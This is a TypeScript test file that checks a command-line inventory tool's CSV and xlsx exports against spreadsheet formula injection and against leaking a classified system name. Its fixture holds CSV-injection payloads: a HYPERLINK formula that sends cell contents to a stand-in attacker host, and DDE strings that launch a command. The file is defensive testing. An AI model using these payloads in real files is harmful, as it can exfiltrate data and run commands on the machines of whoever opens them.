// Every command's CSV and workbook, opened as a spreadsheet would open them, on an inventory whose names
// and departments begin with = + - @ TAB and CR (OWASP's CSV-injection starts) and hold a classified
// system: no cell is a formula, the hostile text is there as text, the classified name is nowhere,
// every CSV starts with a byte-order mark, and a workbook is the same bytes on a second run.
import {createHash} from 'node:crypto'
import {mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {parse as parseCsv} from 'csv-parse/sync'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {inflateEntry, zipEntries} from '../../src/io/read-zip.js'
import {runInProcess} from '../helpers/run-in-process.js'

const AS_OF = ['--as-of', '2026-06-30']
const FORMULA = /^[=+\-@\t\r]/
const SECRET = '=机要通信系统'
const HOSTILE = {
  eq: '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
  plus: '+1+cmd|\' /C calc\'!A0',
  minus: '-2+3',
  at: '@SUM(1+1)*cmd|\'/C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
}

let dir: string
let inv: string

function writeInventory(): void {
  inv = join(dir, 'inv')
  mkdirSync(inv, {recursive: true})
  const y = JSON.stringify
  writeFileSync(join(inv, 'nodes.yaml'), [
    'apiVersion: yunwang/v1', 'kind: NodeInventory', 'nodes:',
    `  - {id: pc, name: ${y(HOSTILE.plus)}, type: provincial-cloud, region: "320000", mlpsCertified: 4, capacity: {vcpu: 1000, memoryGiB: 4000, storageTiB: 100}}`,
    `  - {id: sb, name: ${y(HOSTILE.at)}, type: self-built, region: "320000", mlpsCertified: 2}`,
    '  - {id: sec, name: 涉密机房, type: self-built, region: "320000", classified: true}', '',
  ].join('\n'))
  writeFileSync(join(inv, 'networks.yaml'), [
    'apiVersion: yunwang/v1', 'kind: NetworkInventory', 'networks:',
    `  - {id: ext, name: ${y(HOSTILE.minus)}, type: extranet}`,
    `  - {id: pn, name: ${y(HOSTILE.eq)}, type: private, owner: ${y(HOSTILE.tab)}, consolidation: {status: none}}`, '',
  ].join('\n'))
  writeFileSync(join(inv, 'systems.yaml'), [
    'apiVersion: yunwang/v1', 'kind: SystemInventory', 'systems:',
    `  - {id: a-portal, name: ${y(HOSTILE.eq)}, department: ${y(HOSTILE.minus)}, level: province, region: "320000", serviceSystem: true, hosting: {node: pc}, networks: [ext], dependsOn: [b-auth]}`,
    `  - {id: b-auth, name: ${y(HOSTILE.tab)}, department: ${y(HOSTILE.cr)}, level: province, region: "320000", hosting: {node: sb}, networks: [pn], dependsOn: [c-data]}`,
    `  - {id: c-data, name: ${y(HOSTILE.plus)}, department: ${y(HOSTILE.eq)}, level: province, region: "320000", mlps: 3, hosting: {node: sb}}`,
    `  - {id: d-ops, name: ${y(HOSTILE.at)}, department: ${y(HOSTILE.at)}, level: province, region: "320000", hosting: {node: sb}, dependsOn: [a-portal],`,
    `     migration: {strategy: retain, exemption: {reason: ${y(HOSTILE.eq)}, approvedBy: ${y(HOSTILE.plus)}, until: 2026-09-30, document: ${y(HOSTILE.at)}}}}`,
    `  - {id: e-secret, name: ${y(SECRET)}, department: ${y(HOSTILE.minus)}, level: province, region: "320000", classified: true, hosting: {node: sb}, dependsOn: [a-portal]}`,
    '',
  ].join('\n'))
}

/** The commands whose tables go to CSV and xlsx, every section that has its own table. */
const COMMANDS: string[][] = [
  ['adoption'], ['adoption', '--by', 'region'], ['impact', 'a-portal'], ['plan'], ['ipv6', '--by', 'department'],
  ['ipv6', '--section', 'blockers'], ['check'], ['check', '--section', 'exemptions'], ['status', '--by', 'department'],
]
const withInventory = (c: string[]) => (c[0] === 'impact' ? [c[0], c[1], inv, ...c.slice(2)] : [c[0], inv, ...c.slice(1)])

interface Workbook {
  file: string
  parts: Map<string, string>
}
const csvRuns: Array<{argv: string[]; stdout: string; code: number | null}> = []
const books: Workbook[] = []

function readParts(file: string): Map<string, string> {
  const buf = readFileSync(file)
  const entries = zipEntries(buf)
  if (!Array.isArray(entries)) throw new Error(`${file}: ${JSON.stringify(entries)}`)
  return new Map(entries.map(e => {
    const data = inflateEntry(buf, e, 64 * 1024 * 1024)
    if (!Buffer.isBuffer(data)) throw new Error(`${file}: ${JSON.stringify(data)}`)
    return [e.name, data.toString('utf8')]
  }))
}

const XML_ENTITY: Record<string, string> = {amp: '&', lt: '<', gt: '>', quot: '"', apos: "'"}
/** A shared string as a spreadsheet reads it: entities and _xHHHH_ escapes decoded. */
const decode = (s: string) => s
  .replaceAll(/&(amp|lt|gt|quot|apos|#\d+);/g, (_, e: string) => (e.startsWith('#') ? String.fromCodePoint(Number(e.slice(1))) : XML_ENTITY[e]))
  .replaceAll(/_x([0-9A-Fa-f]{4})_/g, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16)))

function sharedStrings(parts: Map<string, string>): string[] {
  return [...(parts.get('xl/sharedStrings.xml') ?? '').matchAll(/<si><t[^>]*>([\s\S]*?)<\/t><\/si>/g)].map(m => decode(m[1]))
}

interface XCell {ref: string; type?: string; style?: string; inner: string}
function cells(sheet: string): XCell[] {
  return [...sheet.matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map(m => ({
    ref: m[1], type: /\bt="([^"]+)"/.exec(m[2])?.[1], style: /\bs="(\d+)"/.exec(m[2])?.[1], inner: m[3] ?? '',
  }))
}
const sheetsOf = (b: Workbook) => [...b.parts.entries()].filter(([n]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n)).map(([, x]) => x)

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'yw-injection-'))
  writeInventory()
  for (const [i, c] of COMMANDS.entries()) {
    const csv = await runInProcess([...withInventory(c), ...AS_OF, '--format', 'csv'])
    csvRuns.push({argv: c, stdout: csv.stdout, code: csv.code})
    const file = join(dir, `out-${i}.xlsx`)
    const x = await runInProcess([...withInventory(c), ...AS_OF, '--format', 'xlsx', '--out', file])
    expect([0, 1], `${c.join(' ')}: ${x.stderr}`).toContain(x.code)
    books.push({file, parts: readParts(file)})
  }
}, 240_000)

afterAll(() => rmSync(dir, {recursive: true, force: true}))

describe('spreadsheet outputs carry no formula', () => {
  it('CSV: a byte-order mark, RFC 4180 rows, no cell a spreadsheet would evaluate, the hostile text kept behind an apostrophe', () => {
    const seen = new Set<string>()
    for (const r of csvRuns) {
      expect([0, 1], r.argv.join(' ')).toContain(r.code)
      expect(r.stdout.startsWith('\uFEFF'), r.argv.join(' ')).toBe(true)
      expect(r.stdout.endsWith('\r\n'), r.argv.join(' ')).toBe(true)
      const rows = parseCsv(r.stdout, {bom: true, relax_column_count: false}) as string[][]
      for (const cell of rows.flat()) {
        expect(FORMULA.test(cell), `${r.argv.join(' ')}: ${JSON.stringify(cell)}`).toBe(false)
        if (cell.startsWith("'") && FORMULA.test(cell.slice(1))) seen.add(cell.slice(1))
      }
      expect(r.stdout, r.argv.join(' ')).not.toContain('机要通信')
    }
    // The guard did something: the names and departments are there, as text.
    expect([...seen].filter(s => Object.values(HOSTILE).includes(s)).length).toBeGreaterThanOrEqual(4)
  })

  it('xlsx: no <f> formula anywhere, text only as shared strings, formula-like text marked as text (quotePrefix), numbers finite', () => {
    let formulaLike = 0
    for (const b of books) {
      const strings = sharedStrings(b.parts)
      const styles = b.parts.get('xl/styles.xml') ?? ''
      expect(styles).toMatch(/<xf numFmtId="49"[^>]*quotePrefix="1"/)
      for (const sheet of sheetsOf(b)) {
        expect(sheet, b.file).not.toMatch(/<f[\s>]/)
        for (const c of cells(sheet)) {
          expect([undefined, 's'], `${b.file} ${c.ref}`).toContain(c.type)
          const v = /<v>([^<]*)<\/v>/.exec(c.inner)?.[1]
          if (c.type === 's') {
            const text = strings[Number(v)]
            expect(text, `${b.file} ${c.ref}`).toBeDefined()
            if (FORMULA.test(text) && c.style !== '1') {
              expect(c.style, `${b.file} ${c.ref} ${JSON.stringify(text)}`).toBe('3')
              formulaLike++
            }
          } else {
            expect(Number.isFinite(Number(v)), `${b.file} ${c.ref} ${v}`).toBe(true)
          }
        }
      }
      expect(strings.join('\n'), b.file).not.toContain('机要通信')
    }
    expect(formulaLike).toBeGreaterThan(10)
    const all = new Set(books.flatMap(b => sharedStrings(b.parts)))
    for (const s of [HOSTILE.eq, HOSTILE.minus, HOSTILE.cr, HOSTILE.tab]) expect(all.has(s), JSON.stringify(s)).toBe(true)
  })

  it('xlsx: one sheet per table, a bold filled header frozen under an autofilter, rates as fractions formatted 0.0%', () => {
    const adoption = books[0]
    const workbook = adoption.parts.get('xl/workbook.xml') ?? ''
    expect([...workbook.matchAll(/<sheet /g)]).toHaveLength(1)
    const sheet = sheetsOf(adoption)[0]
    expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>')
    expect(sheet).toMatch(/<autoFilter ref="A1:F\d+"\/>/)
    expect(adoption.parts.get('xl/styles.xml')).toContain('<numFmt numFmtId="164" formatCode="0.0%"/>')
    // Four departments with in-scope systems (the classified one is out of scope): the rate column (D) holds fractions in style 2.
    const rates = cells(sheet).filter(c => c.ref.startsWith('D') && c.ref !== 'D1')
    expect(rates.length).toBe(4)
    for (const c of rates) {
      expect(c.style).toBe('2')
      const v = Number(/<v>([^<]*)<\/v>/.exec(c.inner)?.[1])
      expect(v >= 0 && v <= 1).toBe(true)
    }
    expect(cells(sheet).filter(c => /^[A-F]1$/.test(c.ref)).every(c => c.style === '1')).toBe(true)
    const check = books[COMMANDS.findIndex(c => c[0] === 'check' && c.length === 1)]
    expect([...(check.parts.get('xl/workbook.xml') ?? '').matchAll(/<sheet /g)]).toHaveLength(3)
  })

  it('xlsx: the same bytes on a second run; without --out a usage error (exit 2)', async () => {
    const again = join(dir, 'again.xlsx')
    const r = await runInProcess([...withInventory(['plan']), ...AS_OF, '--format', 'xlsx', '--out', again])
    expect(r.code).toBe(0)
    const hash = (f: string) => createHash('sha256').update(readFileSync(f)).digest('hex')
    expect(hash(again)).toBe(hash(books[COMMANDS.findIndex(c => c[0] === 'plan')].file))
    const refused = await runInProcess([...withInventory(['adoption']), ...AS_OF, '--format', 'xlsx'])
    expect(refused.code).toBe(2)
    expect(refused.stdout).toBe('')
    const exists = await runInProcess([...withInventory(['plan']), ...AS_OF, '--format', 'xlsx', '--out', again])
    expect(exists.code).toBe(2)
  })
})
